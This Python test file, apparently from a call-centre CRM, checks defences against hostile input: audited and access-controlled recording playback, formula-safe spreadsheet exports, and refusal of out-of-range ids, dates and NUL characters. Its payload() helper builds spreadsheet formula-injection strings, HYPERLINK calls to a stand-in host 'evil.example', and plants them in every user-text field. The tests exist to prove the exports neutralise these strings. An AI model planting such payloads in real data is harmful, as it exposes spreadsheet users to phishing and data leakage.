"""Hostile input, one class at a time: listens to recordings audited whatever the Range header
says and heard only by who may; text that spreadsheet programs would run is never written as a
formula; ids and dates beyond what the database and the calendar hold are refused by name at
the door, and references to records that do not exist are 404s naming the field."""

from __future__ import annotations

import asyncio
import io
import re
from collections.abc import AsyncIterator, Iterator
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook
from sqlalchemy import select, text, update
from sqlalchemy.exc import DataError, IntegrityError

from crm.access import service as access
from crm.audit.models import AuditEntry
from crm.callbacks.models import CallbackAttempt, CallbackTask, MadeBy, Outcome
from crm.callbacks.schedule import ScheduleRules
from crm.clock import FixedClock
from crm.customers import service as customers
from crm.db import Database
from crm.projects import service as projects
from crm.settings import Settings, load_settings
from tests.support import qa_calls
from tests.support.api import Api, running_app
from tests.support.authz import PUBLIC, allowed
from tests.support.records import seed_records
from tests.support.report_fixture import DAILY_DAY, MONTH_DAY, NOW, WEEK_DAY, build
from web import errors, spreadsheets
from web.params import MAX_ID

ROOT = Path(__file__).resolve().parents[1]
CLIENT_OF_ROLE = {"agent": "agent1", "supervisor": "supervisor", "qa": "qa", "admin": "admin"}
CLIENT_OF_ROLE["department"] = "engineering"


@pytest.fixture
def recording_settings(settings: Settings, tmp_path: Path) -> Settings:
    return load_settings(
        database_url=settings.database_url, recordings_dir=tmp_path / "rec", default_area_code="029"
    )


@pytest.fixture
async def api(db: Database, recording_settings: Settings, clock: FixedClock) -> AsyncIterator[Api]:
    async with running_app(recording_settings, db, clock=clock) as running:
        yield running


# -- 1. Every listen audited once per user, call and login session; who may hear it ---------


async def _listens(db: Database, call_id: int) -> list[AuditEntry]:
    async with db.session() as session:
        return list(
            await session.scalars(
                select(AuditEntry)
                .where(AuditEntry.action == "recording.listen")
                .where(AuditEntry.entity_id == str(call_id))
                .order_by(AuditEntry.id)
            )
        )


async def _recorded_call(api: Api, db: Database, settings: Settings, clock: FixedClock) -> int:
    return await qa_calls.scored_call(
        db,
        settings.recordings_dir,
        agent_id=api.ids["agent1"],
        started_at=clock.now(),
        linkedid="7.1",
    )


WHOLE_FILE_SPELLINGS = [
    {},
    {"Range": "bytes=0-"},
    {"Range": "bytes=00-"},
    {"Range": "bytes = 0 -"},
    {"Range": "bytes=-10000000"},
    {"Range": "bytes=1-"},  # then the first byte on its own
    {"Range": "bytes=0-0,1-"},
    {"Range": "bytes=100-199"},  # a seek first: the player resumed mid-file
]


@pytest.mark.parametrize("headers", WHOLE_FILE_SPELLINGS, ids=lambda h: h.get("Range", "none"))
async def test_a_listen_is_audited_whatever_the_range_header_says(
    api: Api, db: Database, recording_settings: Settings, clock: FixedClock, headers: dict[str, str]
) -> None:
    call_id = await _recorded_call(api, db, recording_settings, clock)
    url = f"/api/calls/{call_id}/recording"
    response = await api["qa"].get(url, params={"leg": "agent"}, headers=headers)
    assert response.status_code in (200, 206), response.text
    [entry] = await _listens(db, call_id)  # audited at once,
    assert (entry.user_id, entry.detail["leg"]) == (api.ids["qa"], "agent")
    await api["qa"].get(url, params={"leg": "agent"}, headers={"Range": "bytes=0-0"})
    assert len(await _listens(db, call_id)) == 1  # and once


async def test_a_listen_is_audited_once_per_user_call_and_login_session(
    api: Api, db: Database, recording_settings: Settings, clock: FixedClock
) -> None:
    call_id = await _recorded_call(api, db, recording_settings, clock)
    url = f"/api/calls/{call_id}/recording"
    for headers in ({}, {"Range": "bytes=5000-"}, {"Range": "bytes=0-"}):
        for leg in ("agent", "customer", "mixed"):
            assert (await api["qa"].get(url, params={"leg": leg}, headers=headers)).is_success
    assert len(await _listens(db, call_id)) == 1
    again = await api.login("qa")  # a new login session is a new listen
    # Parallel first requests of one player (the browser's probes) still write one entry.
    responses = await asyncio.gather(
        *(again.get(url, headers={"Range": f"bytes={n * 100}-"}) for n in range(6))
    )
    assert all(r.status_code == 206 for r in responses)
    assert (await api["supervisor"].get(url)).is_success
    listens = await _listens(db, call_id)
    assert [e.user_id for e in listens] == [api.ids["qa"]] * 2 + [api.ids["supervisor"]]
    assert len({e.detail["session_id"] for e in listens}) == 3


async def _callback_call(
    api: Api, db: Database, settings: Settings, clock: FixedClock
) -> tuple[int, int, int]:
    """A recorded call that was a stage callback of a project: (call, project, other call)."""
    async with db.session() as session:
        customer = await customers.create(
            session, name="王建国", phones=["13800138000"], default_area_code="029"
        )
        project = await projects.create(
            session,
            customer=customer,
            contract_number="XA2026-000009",
            rules=ScheduleRules(window_days=3, post_completion_months=1),
            start_date=date(2026, 11, 10),
        )
        task_id = await session.scalar(
            select(CallbackTask.id).where(CallbackTask.project_id == project.id).limit(1)
        )
        project_id, customer_id = project.id, customer.id
    call_id = await qa_calls.scored_call(
        db,
        settings.recordings_dir,
        agent_id=api.ids["agent1"],
        started_at=clock.now(),
        linkedid="8.1",
        customer_id=customer_id,
    )
    other = await qa_calls.scored_call(
        db,
        settings.recordings_dir,
        agent_id=api.ids["agent1"],
        started_at=clock.now(),
        linkedid="8.2",
        customer_id=customer_id,
    )
    async with db.session() as session:
        session.add(
            CallbackAttempt(
                task_id=task_id,
                made_by=MadeBy.AGENT,
                agent_id=api.ids["agent1"],
                started_at=clock.now(),
                completed_at=clock.now(),
                outcome=Outcome.EFFECTIVE,
                call_id=call_id,
                notes="",
            )
        )
    return call_id, project_id, other


async def test_a_department_hears_a_callback_only_under_a_grant_and_each_try_is_audited(
    api: Api, db: Database, recording_settings: Settings, clock: FixedClock
) -> None:
    call_id, project_id, other = await _callback_call(api, db, recording_settings, clock)
    department = api["engineering"]
    refused = await department.get(f"/api/calls/{call_id}/recording")
    assert refused.status_code == 403 and refused.json()["detail"][0]["code"] == "no_grant"
    now = clock.now()
    async with db.session() as session:
        grant = await access.request_access(
            session,
            requester_id=api.ids["engineering"],
            project_id=project_id,
            reason="核对施工问题",
            wanted_until=now + timedelta(days=2),
            now=now,
        )
        await access.decide(session, grant, approve=True, decided_by=api.ids["supervisor"], at=now)
        grant_id = grant.id
    heard = await department.get(f"/api/calls/{call_id}/recording", headers={"Range": "bytes=7-"})
    assert heard.status_code == 206
    [entry] = await _listens(db, call_id)
    assert entry.detail["grant_id"] == grant_id
    # A call that was not that project's callback stays closed, grant or not.
    assert (await department.get(f"/api/calls/{other}/recording")).status_code == 403
    async with db.session() as session:  # the manager revokes it
        await access.revoke(
            session, await access.get_or_raise(session, grant_id), by=api.ids["supervisor"], at=now
        )
    assert (await department.get(f"/api/calls/{call_id}/recording")).status_code == 403
    async with db.session() as session:
        refusals = await session.scalar(
            select(text("count(*)"))
            .select_from(AuditEntry)
            .where(AuditEntry.action == "recording.listen_refused")
        )
    assert refusals == 3
    # Agents still hear only their own calls, admins none.
    assert (await api["agent2"].get(f"/api/calls/{call_id}/recording")).status_code == 403
    assert (await api["admin"].get(f"/api/calls/{call_id}/recording")).status_code == 403


def test_every_route_serving_audio_checks_who_may_hear_it() -> None:
    """Audio leaves the server through the recordings route only: no other module builds a
    file response or serves the recordings directory."""
    senders = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "web").rglob("*.py")
        if re.search(r"FileResponse|audio/|recordings_dir|recording_files\.find", path.read_text())
    }
    assert senders <= {"web/recordings.py", "web/qa.py", "web/demo.py", "web/cli.py"}, senders
    qa = (ROOT / "web/qa.py").read_text()
    assert "FileResponse" not in qa and "readable_call" in qa


# -- 2. Text is never written into a spreadsheet as a formula --------------------------------

TRIGGERS = ["=", "+", "-", "@", "\t=", "\r="]
# Every text a person (or an imported sheet, or a caller's phone) can put in a record that an
# export shows, as (table, column).
USER_TEXT = [
    ("customers", "name"),
    ("customers", "address"),
    ("customers", "notes"),
    ("customers", "do_not_call_reason"),
    ("users", "display_name"),
    ("projects", "contract_number"),
    ("projects", "address"),
    ("projects", "designer"),
    ("projects", "project_manager"),
    ("projects", "foreman"),
    ("projects", "crew"),
    ("callback_attempts", "notes"),
    ("callback_attempts", "dialed_number"),
    ("complaints", "description"),
    ("complaints", "customer_demand"),
    ("complaints", "signed_by"),
    ("complaints", "solution"),
    ("repairs", "description"),
    ("repairs", "crew"),
    ("repairs", "notes"),
    ("calls", "caller"),
    ("calls", "customer_number"),
    ("campaigns", "name"),
    ("rule_reviews", "reason"),
    ("access_grants", "reason"),
]


def payload(table: str, column: str) -> str:
    trigger = TRIGGERS[USER_TEXT.index((table, column)) % len(TRIGGERS)]
    return f'{trigger}HYPERLINK("http://evil.example/{table}.{column}","\x07open")'


def _cells(content: bytes) -> Iterator[Any]:
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


async def _hostile_records(db: Database, campaign_id: int) -> None:
    async with db.session() as session:
        await session.execute(update(CallbackAttempt).values(campaign_id=campaign_id))
        for table, column in USER_TEXT:
            # Each row its own copy: a unique column (contract numbers) stays unique.
            value = payload(table, column)
            if column == "contract_number":
                await session.execute(
                    text(f"UPDATE {table} SET {column} = :v || id"),
                    {"v": value},
                )
            else:
                await session.execute(text(f"UPDATE {table} SET {column} = :v"), {"v": value})


@pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
async def test_every_export_writes_hostile_text_as_text(db: Database, settings: Settings) -> None:
    await build(db)
    async with running_app(settings, db, clock=FixedClock(NOW)) as api:
        campaign = await api["supervisor"].post("/api/campaigns", json={"name": "回访"})
        await _hostile_records(db, campaign.json()["id"])
        exports = {
            f"{kind}.xlsx": await api["supervisor"].get(
                f"/api/reports/{kind}.xlsx", params={"date": day.isoformat()}
            )
            for kind, day in (("daily", DAILY_DAY), ("weekly", WEEK_DAY), ("monthly", MONTH_DAY))
        }
        exports["attempts.xlsx"] = await api["supervisor"].get(
            f"/api/campaigns/{campaign.json()['id']}/attempts.xlsx"
        )
    shown: set[str] = set()
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.text)
        for cell in _cells(response.content):
            assert cell.data_type != "f", (name, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert "\x07" not in cell.value, (name, cell.coordinate)
                if cell.value.startswith(tuple(spreadsheets.FORMULA_TRIGGERS)):
                    assert cell.quotePrefix, (name, cell.coordinate, cell.value)
                shown.add(cell.value)
    # The text people typed is all there, as they typed it (a character no XLSX file can
    # hold shown as U+FFFD, a carriage return as the line break XML makes of it): names,
    # notes, crews, numbers.
    found = {
        tc
        for tc in USER_TEXT
        if payload(*tc).replace("\x07", "\ufffd").replace("\r", "\n") in shown
    }
    assert {
        ("customers", "name"),
        ("users", "display_name"),
        ("callback_attempts", "notes"),
        ("callback_attempts", "dialed_number"),
        ("repairs", "crew"),
    } <= found, sorted(found)


def test_the_writer_keeps_numbers_and_dates_as_values() -> None:
    book = spreadsheets.workbook()
    sheet = book.active
    assert sheet is not None
    moment = datetime(2026, 11, 23, 10, 30)
    cells = spreadsheets.append(sheet, ["-1", -1, 2.5, moment, date(2026, 1, 2), None, "=1+1"])
    sheet["H1"] = "=SUM(B1:C1)"  # a cell set around the writer still leaves as text
    read = load_workbook(io.BytesIO(spreadsheets.to_bytes(book))).active
    assert read is not None
    values = [(c.value, c.data_type) for c in read[1]]
    assert values == [
        ("-1", "s"),
        (-1, "n"),
        (2.5, "n"),
        (moment, "d"),
        (datetime(2026, 1, 2), "d"),
        (None, "n"),
        ("=1+1", "s"),
        ("=SUM(B1:C1)", "s"),
    ]
    assert [c.quotePrefix for c in read[1]] == [True, False, False, False, False, False, True, True]
    assert len(cells) == 7


def test_every_spreadsheet_goes_through_the_one_writer() -> None:
    """No other module builds or saves a workbook: a new export cannot skip the writer."""
    writers = {
        path.relative_to(ROOT).as_posix()
        for folder in ("web", "crm", "telephony")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"\bWorkbook\(|\.save\(|import Workbook|csv\.writer", path.read_text())
    }
    assert writers == {"web/spreadsheets.py"}, writers


# -- 3. Ids and dates bounded at the door; references checked ---------------------------------

TOO_BIG = 2**63
BAD_DAYS = {"date": "9999-12-31", "date-time": "9999-12-31T23:00:00-14:00"}
EARLY_DAYS = {"date": "0001-01-01", "date-time": "0001-01-01T01:00:00+14:00"}


def _resolve(document: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in schema:
        schema = document["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    return schema


def _kinds(document: dict[str, Any], schema: dict[str, Any]) -> set[str]:
    """integer, date, date-time: what a parameter or property (or its array's items) is."""
    schema = _resolve(document, schema)
    found = set()
    for each in schema.get("anyOf", [schema]):
        option = _resolve(document, each)
        if option.get("type") == "array":
            found |= _kinds(document, option.get("items", {}))
        elif option.get("type") == "integer":
            found.add("integer")
        elif option.get("format") in ("date", "date-time"):
            found.add(option["format"])
    return found


def _client(api: Api, method: str, path: str) -> httpx.AsyncClient:
    who = allowed(method, path)
    if who == PUBLIC:
        return api.anonymous()
    role = sorted(str(r) for r in who)[0]
    return api[CLIENT_OF_ROLE[role]]


def _probes(document: dict[str, Any]) -> Iterator[tuple[str, str, str, str, str, Any]]:
    """(method, path, where, name, kind, hostile value) for every id, number and date an
    operation takes, in its path, its query or its JSON body."""
    for path, item in document["paths"].items():
        for method, operation in item.items():
            for parameter in operation.get("parameters", []):
                for kind in _kinds(document, parameter["schema"]):
                    yield method, path, parameter["in"], parameter["name"], kind, None
            body = operation.get("requestBody", {}).get("content", {}).get("application/json")
            if body:
                schema = _resolve(document, body["schema"])
                for name, prop in schema.get("properties", {}).items():
                    for kind in _kinds(document, prop):
                        array = _resolve(document, prop).get("type") == "array" or any(
                            o.get("type") == "array" for o in prop.get("anyOf", [])
                        )
                        yield method, path, "body", name, kind, array


@pytest.mark.parametrize("extreme", ["high", "low"])
async def test_every_id_and_date_beyond_range_is_refused_by_name(
    api: Api, db: Database, clock: FixedClock, extreme: str
) -> None:
    ids = await seed_records(api, db, clock.now())
    document = api.app.openapi()
    probes = list(_probes(document))
    assert len(probes) > 40  # the document was read
    for method, path, where, name, kind, array in probes:
        if kind == "integer":
            hostile: Any = TOO_BIG if extreme == "high" else -TOO_BIG
        else:
            hostile = (BAD_DAYS if extreme == "high" else EARLY_DAYS)[kind]
        filled = dict(ids)
        query: dict[str, Any] = {}
        body: dict[str, Any] = {}
        if where == "path":
            filled[name] = hostile
        elif where == "query":
            query[name] = hostile
        else:
            body[name] = [hostile] if array else hostile
        url = path.format(**filled)
        response = await _client(api, method, path).request(
            method.upper(), url, params=query, json=body if method != "get" else None
        )
        if where == "body" and kind == "integer" and not re.search(r"_ids?$", name):
            # A count or a limit in a body (a campaign's pacing): its business rule judges
            # it, with the other fields; never the database.
            assert response.status_code < 500, (method, url, body, response.text)
            continue
        assert response.status_code == 422, (method, url, query, body, response.text)
        fields = [d["field"] or "" for d in response.json()["detail"]]
        assert any(f == name or f.startswith(f"{name}[") for f in fields), (
            method,
            url,
            query,
            body,
            fields,
        )


async def test_references_to_missing_records_are_404s_naming_the_field(
    api: Api, db: Database, clock: FixedClock
) -> None:
    ids = await seed_records(api, db, clock.now())
    complaint = f"/api/complaints/{ids['complaint_id']}"
    for manager_id, status, code in (
        (MAX_ID, 404, "manager_not_found"),
        (api.ids["agent2"], 422, "not_a_manager"),
    ):
        response = await api["agent1"].post(
            f"{complaint}/escalate", json={"reason": "客户要求赔偿", "manager_id": manager_id}
        )
        assert response.status_code == status, response.text
        assert response.json()["detail"] == [
            {
                "field": "manager_id",
                "code": code,
                "message": response.json()["detail"][0]["message"],
            }
        ]
    escalated = await api["agent1"].post(
        f"{complaint}/escalate",
        json={"reason": "客户要求赔偿", "manager_id": api.ids["supervisor"]},
    )
    assert escalated.status_code == 200 and escalated.json()["manager_id"] == api.ids["supervisor"]
    attempt = await api["agent1"].post(
        f"/api/callbacks/{ids['task_id']}/attempts",
        json={"outcome": "no_answer", "call_id": MAX_ID},
    )
    assert attempt.status_code == 404, attempt.text
    assert attempt.json()["detail"][0] | {"message": ""} == {
        "field": "call_id",
        "code": "call_not_found",
        "message": "",
    }
    for url, body in (
        (
            "/api/complaints",
            {
                "customer_id": MAX_ID,
                "department": "工程部",
                "category": "quality",
                "description": "x",
            },
        ),
        ("/api/repairs", {"customer_id": MAX_ID, "crew": "一队", "description": "x"}),
        (
            "/api/complaints",
            {"call_id": MAX_ID, "department": "工程部", "category": "quality", "description": "x"},
        ),
    ):
        response = await api["agent1"].post(url, json=body)
        assert response.status_code in (404, 422), (url, response.text)
        assert {d["field"] for d in response.json()["detail"]} & {"customer_id", "call_id"}


async def test_the_net_answers_what_the_database_refuses_in_the_one_shape() -> None:
    """Not the fix (input is bounded above); what keeps a miss from being a crash."""
    app = FastAPI()
    errors.install(app)
    raised: dict[str, Exception] = {
        "integrity": IntegrityError("INSERT …", {}, Exception("FOREIGN KEY constraint failed")),
        "data": DataError("SELECT …", {}, Exception("value out of int32 range")),
        "overflow": OverflowError("Python int too large to convert to SQLite INTEGER"),
        "bug": RuntimeError("a bug"),
    }

    def failing(exc: Exception) -> Any:
        async def fail() -> None:
            raise exc

        return fail

    for name, exc in raised.items():
        app.add_api_route(f"/{name}", failing(exc))
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://t") as client:
        answers = {name: await client.get(f"/{name}") for name in raised}
    assert {name: r.status_code for name, r in answers.items()} == {
        "integrity": 409,
        "data": 422,
        "overflow": 422,
        "bug": 500,
    }
    for response in answers.values():
        [problem] = response.json()["detail"]
        assert set(problem) == {"field", "code", "message"}
        assert "FOREIGN KEY" not in problem["message"] and "a bug" not in problem["message"]


async def test_text_with_a_nul_character_is_refused_by_name_everywhere(
    api: Api, db: Database, clock: FixedClock
) -> None:
    """PostgreSQL's text cannot hold U+0000: every string an operation takes, in its query or
    its JSON body, refuses it at the door (it was a 500 from the database)."""
    ids = await seed_records(api, db, clock.now())
    document = api.app.openapi()
    probes = 0
    for path, item in document["paths"].items():
        for method, operation in item.items():
            url = path.format(**ids)
            client = _client(api, method, path)
            body = operation.get("requestBody", {}).get("content", {}).get("application/json")
            texts = [
                ("query", p["name"])
                for p in operation.get("parameters", [])
                if p["in"] == "query" and "string" in json_types(document, p["schema"])
            ]
            if body:
                properties = _resolve(document, body["schema"]).get("properties", {})
                texts += [
                    ("body", name)
                    for name, prop in properties.items()
                    if "string" in json_types(document, prop)
                ]
            for where, name in texts:
                response = await client.request(
                    method.upper(),
                    url,
                    params={name: "王\x00"} if where == "query" else None,
                    json={name: "王\x00"} if where == "body" else ({} if body else None),
                )
                assert response.status_code == 422, (method, url, name, response.text)
                assert response.json()["detail"] == [
                    {
                        "field": name,
                        "code": "nul_character",
                        "message": "text cannot contain the NUL character (U+0000)",
                    }
                ]
                probes += 1
    assert probes > 40
    nested = await api["agent1"].post(
        "/api/customers", json={"name": "王", "phones": ["13800138000", "1\u00003"]}
    )
    assert nested.json()["detail"][0]["field"] == "phones[1]"


def json_types(document: dict[str, Any], schema: dict[str, Any]) -> set[str]:
    schema = _resolve(document, schema)
    return {_resolve(document, option).get("type", "") for option in schema.get("anyOf", [schema])}
